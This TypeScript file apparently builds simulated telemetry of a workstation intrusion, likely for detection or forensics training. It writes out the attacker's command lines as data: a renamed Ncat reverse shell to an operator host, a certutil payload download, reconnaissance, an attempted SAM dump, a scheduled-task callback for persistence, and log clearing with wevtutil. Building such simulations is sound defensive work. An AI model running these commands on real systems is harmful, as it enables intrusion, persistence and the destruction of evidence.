import { finance, mara, outside, type Program, programs } from "./cast.ts";
import type { Endpoint, Process } from "./documents.ts";
import { later } from "./moment.ts";
import type { Recorder } from "./recorder.ts";
import type { Desk } from "./services.ts";

const home = "C:\\Users\\mara.lindqvist";
const archive = `${home}\\Downloads\\Freight_invoice_8841.zip`;
const script = `${home}\\AppData\\Local\\Temp\\Temp1_Freight_invoice_8841.zip\\Freight_invoice_8841.js`;
const dropped = programs.renamedNcat.path;
const second = programs.netcat.path;
const task = "Freight Sync";

/** The intrusion on HL-FIN-07, from the link in a mail to the removal of traces. */
export function recordIntrusion(
  recorder: Recorder,
  desk: Desk,
  explorer: Process,
  browser: Process,
): void {
  const shell = deliver(recorder, explorer, browser);
  exploreHost(recorder, shell.shell);
  bringSecondTool(recorder, desk, shell.shell);
  endSession(recorder, shell);
  returnByTask(recorder, desk);
}

interface Session {
  readonly tool: Process;
  readonly shell: Process;
  readonly peer: Endpoint;
}

/** An archive with a script in it; the script fetches Ncat under another name and starts it. */
function deliver(recorder: Recorder, explorer: Process, browser: Process): Session {
  const lure: Endpoint = { ip: outside.lure, port: 443 };
  recorder.lookUp("14:05", browser, "files.orla-freight.example", [lure.ip]);
  recorder.connect("14:05.100", browser, lure);
  recorder.file("14:08", browser, "creation", archive, 5_122);
  recorder.disconnect("14:39", browser, lure, 7_344);
  recorder.file("15:18", explorer, "creation", script, 11_870);
  const host = recorder.start("15:22", {
    host: finance,
    user: mara,
    program: programs.wscript,
    commandLine: `"${programs.wscript.path}" "${script}"`,
    parent: explorer,
  });
  recorder.lookUp("15:23", host, "cdn.orla-freight.example", [lure.ip]);
  recorder.connect("15:23.100", host, lure);
  recorder.file("15:25", host, "creation", dropped, 1_667_584);
  recorder.disconnect("15:25.400", host, lure, 1_668_210);

  const peer: Endpoint = { ip: outside.operator, port: 443 };
  const tool = recorder.start("15:27", {
    host: finance,
    user: mara,
    program: programs.renamedNcat,
    commandLine: `${dropped} ${peer.ip} ${peer.port} -e cmd.exe`,
    parent: host,
    workingDirectory: `${home}\\Downloads`,
  });
  recorder.connect("15:27.300", tool, peer);
  const shell = recorder.start("15:27.900", {
    host: finance,
    user: mara,
    program: programs.cmd,
    commandLine: "cmd.exe",
    parent: tool,
    workingDirectory: `${home}\\Downloads`,
  });
  recorder.end("15:29", host);
  return { tool, shell, peer };
}

/** Who am I, where am I, what can I get. */
function exploreHost(recorder: Recorder, shell: Process): void {
  const run = runner(recorder, shell);
  run("16:10", programs.whoami, "whoami  /all");
  const user = run("16:34", programs.net, "net  user mara.lindqvist /domain");
  runner(recorder, user)(
    "16:34.100",
    programs.net1,
    "C:\\Windows\\system32\\net1  user mara.lindqvist /domain",
  );
  run("17:02", programs.ipconfig, "ipconfig  /all");
  const group = run("17:40", programs.net, 'net  group "Domain Admins" /domain');
  runner(recorder, group)(
    "17:40.100",
    programs.net1,
    'C:\\Windows\\system32\\net1  group "Domain Admins" /domain',
  );
  // Without administrator rights this fails.
  run("18:22", programs.reg, "reg  save HKLM\\SAM C:\\ProgramData\\s.dat", 1);
}

/** A second NetCat and a task that calls home, in case the first session ends. */
function bringSecondTool(recorder: Recorder, desk: Desk, shell: Process): void {
  const run = runner(recorder, shell);
  const source: Endpoint = { ip: outside.operator, port: 80 };
  const fetch = run(
    "19:05",
    programs.certutil,
    `certutil  -urlcache -split -f http://${source.ip}/n ${second}`,
    0,
    4,
  );
  recorder.connect("19:05.400", fetch, source);
  recorder.file("19:07", fetch, "creation", second, 45_272);
  recorder.disconnect("19:08", fetch, source, 45_610);

  run(
    "20:31",
    programs.schtasks,
    `schtasks  /create /tn "${task}" /sc minute /mo 5 /st 09:32 /tr "${second} -nv ${outside.operator} 8443 -e cmd.exe"`,
  );
  recorder.file(
    "20:31.300",
    desk.scheduler,
    "creation",
    `C:\\Windows\\System32\\Tasks\\${task}`,
    3_214,
  );
  recorder.setRegistry(
    "20:31.400",
    desk.scheduler,
    `HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache\\Tree\\${task}`,
    "Id",
    "{6B1F0D3C-8E52-4C7B-9C0E-2A4D5F18E7A1}",
  );
  // Meant to receive a file; the firewall lets nobody in.
  run("23:48", programs.netcat, `${second} -l -p 9001`, 1, 41);
}

function endSession(recorder: Recorder, { tool, shell, peer }: Session): void {
  recorder.end("25:20", shell);
  recorder.disconnect("25:20.200", tool, peer, 6_902);
  recorder.end("25:20.300", tool);
}

/** The task runs every five minutes; the third time somebody answers. */
function returnByTask(recorder: Recorder, desk: Desk): void {
  const peer: Endpoint = { ip: outside.operator, port: 8443 };
  const call = (at: string): Process => {
    const tool = recorder.start(at, {
      host: finance,
      user: mara,
      program: programs.netcat,
      commandLine: `${second} -nv ${peer.ip} ${peer.port} -e cmd.exe`,
      parent: desk.scheduler,
      workingDirectory: "C:\\Windows\\system32",
    });
    recorder.connect(later(at, 0.2), tool, peer);
    return tool;
  };
  for (const at of ["32:00", "37:00"]) {
    recorder.end(later(at, 21), call(at), 1);
  }
  const tool = call("42:00");
  const shell = recorder.start("42:00.700", {
    host: finance,
    user: mara,
    program: programs.cmd,
    commandLine: "cmd.exe",
    parent: tool,
    workingDirectory: "C:\\Windows\\system32",
  });
  const run = runner(recorder, shell);
  run("43:10", programs.tasklist, "tasklist  /v");
  run("44:02", programs.net, "net  use \\\\files.harbourline.example\\finance");
  // `del` is built into the shell: files go, no process tells of it.
  recorder.file("45:16", shell, "deletion", dropped);
  recorder.file("45:24", shell, "deletion", script);
  recorder.file("45:31", shell, "deletion", archive);
  run("46:03", programs.schtasks, `schtasks  /delete /tn "${task}" /f`);
  recorder.file("46:03.200", desk.scheduler, "deletion", `C:\\Windows\\System32\\Tasks\\${task}`);
  run("46:40", programs.wevtutil, 'wevtutil  cl "Windows PowerShell"', 5);
  recorder.end("48:12", shell);
  recorder.disconnect("48:12.200", tool, peer, 9_377);
  recorder.end("48:12.300", tool);
}

/** Starts and ends commands below a process. */
function runner(recorder: Recorder, parent: Process) {
  return (at: string, program: Program, line: string, exitCode = 0, seconds = 0.5): Process => {
    const command = recorder.start(at, {
      host: parent.host,
      user: parent.user,
      program,
      commandLine: line,
      parent,
      workingDirectory: "C:\\ProgramData",
    });
    recorder.end(later(at, seconds), command, exitCode);
    return command;
  };
}
